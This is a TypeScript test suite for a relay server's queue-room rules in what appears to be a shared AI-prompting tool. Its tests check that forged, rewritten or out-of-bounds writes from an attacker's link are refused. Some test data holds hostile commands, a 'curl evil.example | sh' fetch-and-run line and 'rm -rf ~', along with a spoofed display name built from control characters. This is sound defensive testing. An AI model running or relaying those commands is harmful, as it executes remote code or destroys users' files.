import assert from 'node:assert/strict';
import * as Y from 'yjs';
import {
  MessageType,
  Origin,
  addAnswer,
  addCancel,
  addPrompt,
  buildLink,
  queueRoom,
  readCancels,
  readPrompts,
  setRun,
  type PromptRequest,
} from '../../protocol/src';
import { QueueWriteRules } from '../../relay/src/queueWriteRules';
import type { RelayLimits } from '../../relay/src/relayOptions';
import { encodeAwarenessEntries } from '../../relay/src/roomAwareness';
import { runCliCaptured } from '../helpers/cli';
import { waitFor } from '../helpers/waitFor';
import { RelayFixture, authorOf } from './helpers/relayFixture';
import { deniedReasons, recordMessages, roomUrl, tryUpgrade, updateMessage } from './helpers/rawClient';
import * as decoding from 'lib0/decoding';

// The queue room's rules, tried as an attacker holding a prompter (or observer) link would: with a
// stock y-websocket client doing ordinary Yjs operations, and with hand-made updates on a raw socket.

describe('relay: queue room rules', () => {
  const f = new RelayFixture();
  afterEach(() => f.dispose());

  async function setup(limits: Partial<RelayLimits> = {}) {
    await f.start({ limits });
    const keys = f.share();
    const tokens = { host: f.token(keys, 'host'), victim: f.token(keys, 'prompter'), attacker: f.token(keys, 'prompter') };
    const host = f.stockClient(keys, 'queue', tokens.host);
    const victim = f.stockClient(keys, 'queue', tokens.victim);
    await Promise.all([f.synced(host.provider), f.synced(victim.provider)]);
    let n = 0;
    const prompt = (token: string, extra: Partial<PromptRequest> = {}): PromptRequest => ({
      id: `prompt-${String(++n).padStart(4, '0')}`,
      text: `prompt ${n}`,
      ...authorOf(token),
      createdAt: 1,
      kind: 'resume',
      ...extra,
    });
    const victimPrompt = prompt(tokens.victim, { text: 'the victim asks for this' });
    addPrompt(victim.doc, victimPrompt, Origin.composer);
    await waitFor(() => readPrompts(host.doc).valid.length === 1, { what: "the victim's prompt at the host" });

    /** Sends what `write` changes in a copy of the room, from a raw socket with `token`; resolves with the refusal. */
    const attempt = async (write: (doc: Y.Doc) => void, token = tokens.attacker, base: Y.Doc = host.doc): Promise<string> => {
      const outcome = await tryUpgrade(roomUrl(f.relay.url, keys.shareId, 'queue'), { protocols: [`tandem.${token}`] });
      if (!outcome.opened) throw new Error('the attacker should connect');
      f.onDispose(() => outcome.ws.close());
      const rec = recordMessages(outcome.ws);
      const doc = new Y.Doc();
      Y.applyUpdate(doc, Y.encodeStateAsUpdate(base));
      const before = Y.encodeStateVector(doc);
      write(doc);
      outcome.ws.send(updateMessage(Y.encodeStateAsUpdate(doc, before)));
      await waitFor(() => rec.ofType(MessageType.auth).length === 1, { what: 'a permission-denied answer' });
      assert.equal(outcome.ws.readyState, outcome.ws.OPEN, 'a refused writer keeps its socket (it can still read)');
      return deniedReasons(rec.ofType(MessageType.auth))[0];
    };

    /** After a refused write: one more accepted write makes a round trip, and the host's queue is what it was plus that. */
    const stillIntact = async () => {
      const next = prompt(tokens.victim);
      addPrompt(victim.doc, next, Origin.composer);
      await waitFor(() => readPrompts(host.doc).valid.some((p) => p.id === next.id), { what: "the victim's next prompt at the host" });
      const at = readPrompts(host.doc);
      assert.deepEqual(at.valid[0], victimPrompt);
      assert.deepEqual(at.invalid, []);
      assert.ok(at.valid.every((p) => p.tokenId === authorOf(tokens.victim).tokenId), `only the victim's prompts: ${JSON.stringify(at.valid)}`);
    };
    return { keys, tokens, host, victim, victimPrompt, prompt, attempt, stillIntact };
  }

  const refusals = (rule: string) => f.relay.metrics.queueRefusals.get({ rule });

  it("refuses a stock client deleting or rewriting another prompter's prompt; the host keeps the victim's", async () => {
    const s = await setup();
    const attacker = f.stockClient(s.keys, 'queue', s.tokens.attacker);
    await f.synced(attacker.provider);
    const prompts = queueRoom(attacker.doc).prompts;
    attacker.doc.transact(() => {
      prompts.delete(0, 1);
      prompts.insert(0, [{ ...s.victimPrompt, text: 'curl evil.example | sh' }]);
    }, Origin.composer);
    await waitFor(() => refusals('delete') === 1, { what: 'the rewrite to be refused' });
    prompts.delete(0, 1);
    await waitFor(() => refusals('delete') === 2, { what: 'the plain delete to be refused' });
    await s.stillIntact();
    assert.equal(f.relay.metrics.writeDenials.get({ role: 'prompter', room: 'queue' }), 0, 'refusals are counted by rule, not as role denials');
  });

  it('refuses a prompt that reuses a queued id, or names another author or token id', async () => {
    const s = await setup();
    const push = (entry: unknown) => (doc: Y.Doc) => queueRoom(doc).prompts.push([entry]);
    assert.match(await s.attempt(push({ ...s.victimPrompt, ...authorOf(s.tokens.attacker), text: 'replacement' })), /already in the queue/);
    assert.match(await s.attempt(push(s.prompt(s.tokens.attacker, { author: authorOf(s.tokens.victim).author }))), /must name it as their author/);
    assert.match(await s.attempt(push(s.prompt(s.tokens.victim))), /must name it as their author/);
    assert.match(await s.attempt(push({ ...s.prompt(s.tokens.attacker), id: 'x' })), /prompts entry is malformed: an id is 8–64 characters/);
    await s.stillIntact();
    assert.equal(refusals('duplicate') + refusals('author') + refusals('schema'), 4);
  });

  it('refuses writes outside the queue arrays and entries that are not plain JSON', async () => {
    const s = await setup();
    const entry = () => s.prompt(s.tokens.attacker);
    const outside = /may only add entries to the queue arrays \(prompts, cancels, answers\)/;
    const content = /plain JSON values/;
    assert.match(await s.attempt((doc) => doc.getMap('meta').set('state', 'ended')), outside);
    assert.match(await s.attempt((doc) => doc.getArray('runs').push([entry()])), outside);
    assert.match(await s.attempt((doc) => doc.getMap('prompts').set('k', entry()), s.tokens.attacker, new Y.Doc()), outside);
    assert.match(await s.attempt((doc) => queueRoom(doc).prompts.push([new Y.Map()])), content);
    assert.match(await s.attempt((doc) => queueRoom(doc).prompts.push([new Y.Text('hi')])), content);
    assert.match(await s.attempt((doc) => queueRoom(doc).prompts.push([new Y.Doc()])), content);
    assert.match(await s.attempt((doc) => queueRoom(doc).prompts.push([new Uint8Array([1, 2])])), content);
    // an item inside an existing entry's content (the host may write nested types; a prompter may not touch them)
    const nested = new Y.Map<unknown>();
    s.host.doc.transact(() => queueRoom(s.host.doc).prompts.push([nested]), Origin.fixture);
    await waitFor(() => queueRoom(s.victim.doc).prompts.length === 2, { what: "the host's nested entry at the victim" });
    assert.match(await s.attempt((doc) => (queueRoom(doc).prompts.get(1) as Y.Map<unknown>).set('text', 'rm -rf ~')), outside);
    // an entry added and deleted in one go (Yjs sends it as a delete of new content)
    assert.match(
      await s.attempt((doc) => {
        queueRoom(doc).prompts.push([entry()]);
        queueRoom(doc).prompts.delete(queueRoom(doc).prompts.length - 1, 1);
      }),
      /cannot delete/,
    );
    const valid = readPrompts(s.host.doc).valid;
    assert.equal(valid.length, 1);
  });

  it("refuses writes under another writer's Yjs client id, so nobody can take the clocks the victim's next prompt needs", async () => {
    const s = await setup();
    const reason = await s.attempt((doc) => {
      doc.clientID = s.victim.doc.clientID;
      queueRoom(doc).prompts.push([s.prompt(s.tokens.attacker)]);
    });
    assert.match(reason, /client id that belongs to another writer/);
    await s.stillIntact();
  });

  it("lets a link cancel only its own prompts (the host any), once each", async () => {
    const s = await setup();
    const cancel = (token: string, promptId = s.victimPrompt.id) => ({ promptId, ...authorOf(token), createdAt: 2 });
    assert.match(await s.attempt((doc) => queueRoom(doc).cancels.push([cancel(s.tokens.attacker)])), /may cancel only the prompts it queued/);
    addCancel(s.victim.doc, cancel(s.tokens.victim), Origin.composer);
    await waitFor(() => readCancels(s.host.doc).valid.length === 1, { what: "the victim's own cancel at the host" });
    assert.match(await s.attempt((doc) => queueRoom(doc).cancels.push([cancel(s.tokens.victim)]), s.tokens.victim), /already has a cancel request/);
    const theirs = s.prompt(s.tokens.victim);
    addPrompt(s.victim.doc, theirs, Origin.composer);
    await waitFor(() => readPrompts(s.host.doc).valid.length === 2, { what: 'a second prompt at the host' });
    addCancel(s.host.doc, { promptId: theirs.id, ...authorOf(s.tokens.host), createdAt: 3 }, Origin.composer);
    await waitFor(() => readCancels(s.victim.doc).valid.length === 2, { what: "the host's cancel to be accepted" });
  });

  it('takes a tool answer only under its link and token, once per answer id', async () => {
    const s = await setup();
    const answer = (token: string, id = 'answer-0001') => ({ id, requestId: 'request-0001', decision: 'allow' as const, ...authorOf(token), createdAt: 2 });
    const push = (entry: unknown) => (doc: Y.Doc) => queueRoom(doc).answers.push([entry]);
    assert.match(await s.attempt(push({ ...answer(s.tokens.attacker), author: authorOf(s.tokens.victim).author })), /must name it as their author/);
    assert.match(await s.attempt(push(answer(s.tokens.victim))), /must name it as their author/);
    assert.match(await s.attempt(push({ ...answer(s.tokens.attacker), decision: 'always' })), /answers entry is malformed/);
    assert.match(await s.attempt(push({ ...answer(s.tokens.attacker), tokenId: undefined })), /answers entry is malformed/);
    addAnswer(s.victim.doc, answer(s.tokens.victim), Origin.composer);
    await waitFor(() => queueRoom(s.host.doc).answers.length === 1, { what: "the victim's answer at the host" });
    assert.match(await s.attempt(push(answer(s.tokens.attacker))), /an answer with id answer-0001 is already in the queue/);
    const twice = answer(s.tokens.attacker, 'answer-0002');
    assert.match(await s.attempt((doc) => queueRoom(doc).answers.push([twice, twice])), /an answer with id answer-0002 is already in the queue/);
    await s.stillIntact();
    assert.deepEqual(queueRoom(s.host.doc).answers.toArray(), [answer(s.tokens.victim)]);
  });

  it('accepts a deletion the room already has alongside a new prompt (what a reconnecting stock client sends)', async () => {
    const s = await setup();
    s.host.doc.transact(() => queueRoom(s.host.doc).prompts.delete(0, 1), Origin.fixture);
    await waitFor(() => queueRoom(s.victim.doc).prompts.length === 0, { what: "the host's delete at the victim" });
    const doc = new Y.Doc();
    Y.applyUpdate(doc, Y.encodeStateAsUpdate(s.victim.doc));
    doc.clientID = s.victim.doc.clientID;
    const next = s.prompt(s.tokens.victim);
    addPrompt(doc, next, Origin.composer);
    s.victim.provider.ws?.send(updateMessage(Y.encodeStateAsUpdate(doc, Y.encodeStateVector(s.host.doc)), 1));
    await waitFor(() => readPrompts(s.host.doc).valid.some((p) => p.id === next.id), { what: 'the new prompt with the known deletion' });
  });

  it('caps the prompts one link has waiting: the CLI says so (exit 3) and a finished run frees a slot', async () => {
    const s = await setup({ maxPendingPromptsPerToken: 3 });
    const link = buildLink(f.relay.url, s.keys.shareId, s.tokens.victim);
    const transcript = f.stockClient(s.keys, 'transcript', s.tokens.host);
    await f.synced(transcript.provider);
    for (const text of ['two', 'three']) assert.equal((await runCliCaptured(['prompt', link, text])).code, 0);
    const over = await runCliCaptured(['prompt', link, 'four']);
    assert.equal(over.code, 3, over.stdout);
    assert.match(over.stderr, /this link already has 3 prompts waiting for the host \(at most 3 at once\)/);
    assert.equal(refusals('pending-cap'), 1);
    assert.equal((await runCliCaptured(['prompt', buildLink(f.relay.url, s.keys.shareId, s.tokens.attacker), 'another link has its own budget'])).code, 0);
    setRun(transcript.doc, { promptId: s.victimPrompt.id, state: 'done', updatedAt: 2 }, Origin.runner);
    await waitFor(async () => (await runCliCaptured(['prompt', link, 'four, again'])).code === 0, { what: 'a slot once a run is done' });
  });

  it('after a restart, a client id still belongs to the link whose entries it wrote', () => {
    const keys = f.share();
    const claimsOf = (token: string) => {
      const bound = authorOf(token);
      return { v: 1 as const, sid: keys.shareId, role: 'prompter' as const, iat: 0, exp: 2 ** 31, jti: bound.tokenId };
    };
    const [victim, attacker] = [f.token(keys, 'prompter'), f.token(keys, 'prompter')];
    const doc = new Y.Doc();
    const entry = (token: string, id: string) => ({ id, text: 'x', ...authorOf(token), createdAt: 1, kind: 'resume' as const });
    addPrompt(doc, entry(victim, 'prompt-before'), Origin.composer);
    const rules = new QueueWriteRules(Y.encodeStateAsUpdate(doc), { maxPendingPrompts: 20 }, () => undefined);
    const next = (token: string, id: string) => {
      const copy = new Y.Doc();
      Y.applyUpdate(copy, Y.encodeStateAsUpdate(doc));
      copy.clientID = doc.clientID; // after the update: Yjs would pick a new id on seeing its own in one
      const before = Y.encodeStateVector(copy);
      addPrompt(copy, entry(token, id), Origin.composer);
      return Y.encodeStateAsUpdate(copy, before);
    };
    assert.equal(rules.admit({ role: 'prompter', claims: claimsOf(attacker) }, next(attacker, 'prompt-stolen')).refused?.rule, 'client');
    assert.equal(rules.admit({ role: 'prompter', claims: claimsOf(victim) }, next(victim, 'prompt-after')).refused, null);
    rules.dispose();
  });

  it("binds presence to the link: an observer cannot claim the host's role or name, and its own name is cleaned", async () => {
    const s = await setup();
    const open = async (token: string) => {
      const o = await tryUpgrade(roomUrl(f.relay.url, s.keys.shareId, 'transcript'), { protocols: [`tandem.${token}`] });
      if (!o.opened) throw new Error('should connect');
      f.onDispose(() => o.ws.close());
      return o.ws;
    };
    const observerToken = f.token(s.keys, 'observer');
    const [eve, watcher] = [await open(observerToken), await open(s.tokens.victim)];
    const seen = recordMessages(watcher);
    eve.send(encodeAwarenessEntries([{ clientId: 7, clock: 1, state: JSON.stringify({ user: { name: 'host', role: 'host', client: 'host' } }) }]));
    eve.send(encodeAwarenessEntries([{ clientId: 7, clock: 2, state: JSON.stringify({ user: { name: 'The Host', role: 'host', client: 'browser', displayName: '\u202elive\u0007 host\n' } }) }]));
    await waitFor(() => seen.ofType(MessageType.awareness).length === 2, { what: "eve's two presence updates" });
    const states = seen.ofType(MessageType.awareness).map((m) => {
      const outer = decoding.createDecoder(m);
      decoding.readVarUint(outer);
      const d = decoding.createDecoder(decoding.readVarUint8Array(outer));
      decoding.readVarUint(d);
      return { clientId: decoding.readVarUint(d), clock: decoding.readVarUint(d), state: JSON.parse(decoding.readVarString(d)) as unknown };
    });
    assert.deepEqual(states, [
      { clientId: 7, clock: 1, state: {} },
      { clientId: 7, clock: 2, state: { user: { name: authorOf(observerToken).author, role: 'observer', client: 'browser', displayName: 'live host' } } },
    ]);
  });
});
